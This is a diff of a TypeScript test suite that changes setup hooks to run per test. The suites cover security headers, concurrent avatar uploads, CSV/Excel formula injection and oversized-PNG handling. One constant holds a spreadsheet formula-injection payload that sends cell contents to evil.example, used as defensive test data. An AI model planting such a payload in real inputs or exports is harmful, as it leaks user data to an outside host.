@@ -31,7 +31,7 @@ function directives(header: string | number | string[] | undefined): Map<string,
 describe('security headers (item 9)', () => {
   let t: TestApp;
   let admin: string;
-  beforeAll(async () => {
+  beforeEach(async () => {
     const dir = tempDir();
     const dist = path.join(dir, 'dist');
     fs.mkdirSync(path.join(dist, 'static', 'js'), { recursive: true });
@@ -40,7 +40,7 @@ describe('security headers (item 9)', () => {
     t = await createTestApp({}, dir);
     admin = await login(t.app);
   });
-  afterAll(() => destroyTestApp(t));
+  afterEach(() => destroyTestApp(t));
 
   const commonHeaders = (res: LightMyRequestResponse) => {
     expect(res.headers['x-content-type-options']).toBe('nosniff');
@@ -109,10 +109,10 @@ describe('security headers (item 9)', () => {
 
 describe('parallel avatar uploads (item 10)', () => {
   let t: TestApp;
-  beforeAll(async () => {
+  beforeEach(async () => {
     t = await createTestApp();
   });
-  afterAll(() => destroyTestApp(t));
+  afterEach(() => destroyTestApp(t));
 
   it('20 at once leave one file on disk, the one the user refers to', async () => {
     const token = await login(t.app, 'editor');
@@ -144,11 +144,11 @@ describe('exports keep formula-looking text as text (item 11)', () => {
   let admin: string;
   /** A User-Agent bowser does not know: shown (and exported) as it is. */
   const HOSTILE_UA = '=HYPERLINK("https://evil.example/?leak="&A1,"点我")';
-  beforeAll(async () => {
+  beforeEach(async () => {
     t = await createTestApp();
     admin = await login(t.app);
   });
-  afterAll(() => destroyTestApp(t));
+  afterEach(() => destroyTestApp(t));
 
   /** Every cell of the first sheet: its text, and whether exceljs reads it as a formula. */
   async function cells(res: LightMyRequestResponse): Promise<{ texts: string[]; formulas: number }> {
@@ -213,11 +213,11 @@ describe('exports keep formula-looking text as text (item 11)', () => {
 describe('pictures that declare a huge canvas (item 14)', () => {
   let t: TestApp;
   let admin: string;
-  beforeAll(async () => {
+  beforeEach(async () => {
     t = await createTestApp();
     admin = await login(t.app);
   });
-  afterAll(() => destroyTestApp(t));
+  afterEach(() => destroyTestApp(t));
 
   /** A real 1x1 PNG whose header claims `width` x `height` (decoders believe the header). */
   function pngClaiming(width: number, height: number): Buffer {
